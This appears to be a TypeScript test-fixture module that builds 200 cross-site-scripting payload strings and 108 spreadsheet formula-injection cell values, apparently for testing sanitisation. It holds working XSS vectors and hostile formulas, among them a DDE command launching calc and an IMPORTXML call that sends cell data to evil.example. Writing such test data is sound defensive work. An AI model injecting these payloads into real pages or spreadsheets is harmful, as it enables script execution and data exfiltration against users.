/** What a script in a page would do; a page that runs one opens a dialog. */
const act = 'alert(16)';
/** Every element of `hostileMarkup` has this attribute, so that one that became part of a page is found. */
export const markupMark = 'data-s16';

const elements = [
  `<img ${markupMark} src=x onerror=${act}>`,
  `<svg ${markupMark} onload=${act}>`,
  `<script ${markupMark}>${act}</script>`,
  `<iframe ${markupMark} srcdoc="<script>${act}</script>"></iframe>`,
  `<body ${markupMark} onload=${act}>`,
  `<video ${markupMark}><source onerror=${act}></video>`,
  `<details ${markupMark} open ontoggle=${act}>`,
  `<input ${markupMark} autofocus onfocus=${act}>`,
  `<a ${markupMark} href="javascript:${act}">عرض</a>`,
  `<a ${markupMark} href="java&#x09;script:${act}">more</a>`,
  `<object ${markupMark} data="javascript:${act}"></object>`,
  `<embed ${markupMark} src="data:text/html,<script>${act}</script>">`,
  `<math><mtext><style><img ${markupMark} src=x onerror=${act}></style></mtext></math>`,
  `<form ${markupMark} action="javascript:${act}"><button autofocus>x</button></form>`,
  `<style ${markupMark}>@import 'javascript:${act}';</style>`,
  `<link ${markupMark} rel=stylesheet href="javascript:${act}">`,
  `<meta ${markupMark} http-equiv=refresh content="0;url=javascript:${act}">`,
  `<svg ${markupMark}><animate onbegin=${act} attributeName=x dur=1s></svg>`,
  `<IMG ${markupMark} SRC=x ONERROR=${act}>`,
  `<div ${markupMark} style="animation-name:x" onanimationstart=${act}></div>`,
];
/** What somebody writes first to leave the place where the text stands. */
const exits = ['', '">', "'>", '</script>', '</textarea>', '</title>', '-->', ']]>', '`}}', '\\u003e\\">'];

/** 200 texts that act where a page takes them for markup. */
export const hostileMarkup: readonly string[] = exits.flatMap((exit) => elements.map((element) => `${exit}${element}`));

const beginnings = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\u0000=', '＝', '＋', '－', '＠', ' =', '\u00a0=', '\u200f=', '\u200b=', '\u2066=', '\ufeff=']; // prettier-ignore
const formulas = [
  'HYPERLINK("http://evil.example","x")',
  "cmd|' /C calc'!A0",
  'SUM(A1:A9)',
  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  'مجموع(أ1)،\n"ثم"',
  '1+1',
];

/** 108 texts that a spreadsheet takes for a formula, unless somebody prevents it. */
export const hostileCells: readonly string[] = beginnings.flatMap((beginning) => formulas.map((formula) => `${beginning}${formula}`));
